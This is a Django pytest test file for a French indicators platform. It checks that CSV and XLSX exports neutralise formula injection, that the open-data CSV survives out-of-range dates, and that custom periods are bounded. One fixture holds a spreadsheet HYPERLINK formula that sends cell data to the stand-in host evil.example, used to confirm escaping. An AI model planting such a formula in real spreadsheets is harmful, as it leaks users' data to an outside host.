"""Exports that cannot execute: a structure named as a formula in the indicators' CSV and XLSX (review M1)."""

import csv
import io
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from apps.indicators.refresh import refresh_indicators
from apps.orientation.models import Reception
from tests.factories import UserFactory

from .test_views import make_coordinator

pytestmark = pytest.mark.django_db
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")'


@pytest.fixture
def formula_named(data):
    data.a.name = HYPERLINK
    data.a.save()
    return make_coordinator(UserFactory(email="coord.t1@test.spro.example"), data.t1)


def test_the_csv_export_neutralises_a_formula(client, data, formula_named):
    client.force_login(formula_named)
    response = client.get(reverse("indicators:territory_export", args=[data.t1.code, "csv"]), {"periode": "2025"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert "'" + HYPERLINK in cells
    assert not [cell for cell in cells if cell.startswith(("=", "@"))]


def test_the_xlsx_export_has_no_formula_cell_and_numbers_stay_numbers(client, data, formula_named):
    client.force_login(formula_named)
    response = client.get(reverse("indicators:territory_export", args=[data.t1.code, "xlsx"]), {"periode": "2025"})
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert "'" + HYPERLINK in [c.value for c in cells]
    assert any(isinstance(c.value, int) and c.data_type == "n" for c in cells)


@pytest.mark.parametrize("day", [date(1, 1, 1), date(1899, 12, 31)])
def test_a_reception_stored_before_the_platform_does_not_break_open_data(client, data, day):
    """Stored before the forms checked dates (or by a script): the CSV stays up, with no such year (review M8)."""
    Reception.objects.create(structure=data.a, date=day, channel="on_site", age_band="16_25")
    refresh_indicators()
    response = client.get(reverse("indicators:open_data_csv"))
    assert response.status_code == 200
    years = {row["annee"] for row in csv.DictReader(io.StringIO(response.content.decode()))}
    assert years and min(years) >= "2014" and str(day.year) not in years


@pytest.mark.parametrize(
    "debut, fin, error",
    [
        ("0000-01", "2025-01", "Choisissez un mois entre 2014 et l&#x27;année en cours"),
        ("2025-01", "9999-12", "Choisissez un mois entre 2014 et l&#x27;année en cours"),
        ("0001-01", "9998-12", "Choisissez un mois entre 2014 et l&#x27;année en cours"),
        ("2020-01", "2024-12", "une période personnalisée couvre 36 mois au plus"),
    ],
)
def test_a_custom_period_is_bounded(client, data, debut, fin, error):
    """0001-01 to 9998-12 took 105 s and 191 MB per request (review M7)."""
    client.force_login(UserFactory(email="region@test.spro.example", role="region_admin"))
    for url in (reverse("indicators:region"), reverse("indicators:region_export", kwargs={"fmt": "csv"})):
        response = client.get(url, {"periode": "personnalisee", "debut": debut, "fin": fin})
        assert response.status_code in (200, 400)
    html = client.get(reverse("indicators:region"), {"periode": "personnalisee", "debut": debut, "fin": fin})
    assert error in html.content.decode()
